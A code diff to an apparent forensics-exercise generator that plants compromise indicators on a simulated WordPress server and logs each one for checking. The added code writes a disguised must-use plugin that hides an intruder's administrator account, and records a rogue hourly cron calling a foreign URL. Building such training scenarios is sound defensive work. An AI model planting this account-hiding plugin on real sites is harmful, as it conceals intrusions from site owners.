@@ -321,7 +321,21 @@ def plant(root: Path, seed: str, *, www: tuple[int, int],
                            "root's shell history redirected to /dev/null", "",
                            {"symlink_to": "/dev/null"}))
 
+    # 13. A must-use plugin that hides the intruder's account from the users screen.
+    mu = f"{BLOG.content_dir}/mu-plugins/wp-session-helper.php"
+    intruder = next(u for u in BLOG.users if u.planted)
+    _put(root, mu, "<?php\n/* Plugin Name: WP Session Helper */\n"
+         "add_action('pre_user_query', function ($q) {\n    global $wpdb;\n"
+         f"    $q->query_where .= \" AND {{$wpdb->users}}.user_login != '{intruder.login}'\";\n"
+         "});\n", uid=www[0], gid=www[1], when="2024-03-11 03:31:00")
+    found.append(Indicator("mu-plugin-hider", "mu_plugin", mu,
+                           "must-use plugin hiding the unknown administrator from wp-admin",
+                           f"user_login != '{intruder.login}'", {"site": BLOG.key}))
+
     # Database-side indicators (planted by populate.php phase 3).
+    found.append(Indicator("wp-rogue-cron", "wp_cron", "",
+                           "WP-cron event calling a foreign URL every hour (cron option)",
+                           BLOG.rogue_cron[0], {"site": BLOG.key, "url": BLOG.rogue_cron[1]}))
     found.append(Indicator("wp-unknown-admin", "wp_admin", "",
                            "unknown administrator 'wpsupport' in the blog's users table",
                            "wpsupport", {"site": BLOG.key, "user": "intruder"}))
